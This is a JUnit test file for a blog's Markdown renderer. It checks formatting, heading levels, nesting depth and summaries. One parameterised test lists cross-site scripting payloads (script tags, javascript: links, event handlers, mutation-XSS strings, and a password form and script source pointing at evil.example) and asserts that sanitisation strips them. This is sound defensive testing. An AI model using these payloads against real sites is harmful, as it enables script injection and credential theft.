package io.millpond.blog.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class MarkdownTest {
    private static Document html(String markdown) {
        return Jsoup.parseBodyFragment(Markdown.toHtml(markdown));
    }

    @Test
    void markdown_isRendered() {
        Document html =
                html("Some *words* and `code`.\n\n```java\nint i;\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n~~no~~");
        assertThat(html.select("em").text()).isEqualTo("words");
        assertThat(html.select("pre code").attr("class")).isEqualTo("language-java");
        assertThat(html.select("td").eachText()).containsExactly("1", "2");
        assertThat(html.select("td[align=right]").text()).isEqualTo("2");
        assertThat(html.select("del").text()).isEqualTo("no");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt&#58;alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "![x](javascript:alert(1))",
                "<a href=\"java\nscript:alert(1)\">x</a>",
                "<svg onload=alert(1)>",
                "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<iframe src=https://evil.example></iframe>",
                "<object data=x></object><embed src=x>",
                "<form action=https://evil.example><input name=password></form>",
                "<style>body{background:url(//evil.example)}</style>",
                "<p style=\"position:fixed\">x</p>",
                "<a href=x onclick=alert(1)>x</a>",
                "<base href=//evil.example>",
                "<meta http-equiv=refresh content=0>",
                "<link rel=stylesheet href=//evil.example>",
                "<div id=content>x</div>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "`` <b onmouseover=alert(1)>x",
                "```\"><script>alert(1)</script>\n```"
            })
    void hostileMarkdown_leavesNothingThatActs(String markdown) {
        Document html = html(markdown);
        assertThat(html.select("script, iframe, object, embed, form, input, style, link, meta, base, svg, math"))
                .isEmpty();
        for (Element element : html.body().getAllElements()) {
            element.attributes().forEach(attribute -> {
                assertThat(attribute.getKey()).doesNotStartWith("on").isNotIn("style", "id", "xlink:href");
                assertThat(attribute.getValue().replaceAll("\\s", "").toLowerCase(Locale.ROOT))
                        .doesNotStartWith("javascript:")
                        .doesNotStartWith("data:");
            });
        }
    }

    @Test
    void firstLevelHeadings_moveDownWithAllOthers() {
        Document html = html("# One\n\n## Two\n\n###### Six");
        assertThat(html.select("h1")).isEmpty();
        assertThat(html.select("h2").text()).isEqualTo("One");
        assertThat(html.select("h3").text()).isEqualTo("Two");
        assertThat(html.select("h6").text()).isEqualTo("Six");
    }

    @Test
    void deepNesting_isNoStackOverflow() {
        for (String sign : new String[] {">", "- ", "[", "*", "<b>", "<div>", "![", "~~"}) {
            assertThat(html(sign.repeat(20_000) + "x").text()).as(sign).isNotNull();
        }
    }

    @Test
    void summary_isTheTextOfTheFirstParagraphs() {
        String markdown = "# Heading\n\n![image](x.png)Some *emphasised* text with a\n[link](https://example.org).\n\n"
                + "```\ncode\n```\n\n<div>raw</div>\n\nMore.";
        assertThat(Markdown.summary(markdown, 200)).isEqualTo("Some emphasised text with a link. More.");
    }

    @Test
    void longSummary_isCutAtAWord() {
        assertThat(Markdown.summary("one two, three four", 9)).isEqualTo("one two…");
        assertThat(Markdown.summary("x".repeat(100), 10)).isEqualTo("x".repeat(10) + "…");
        assertThat(Markdown.summary("", 10)).isEmpty();
    }
}
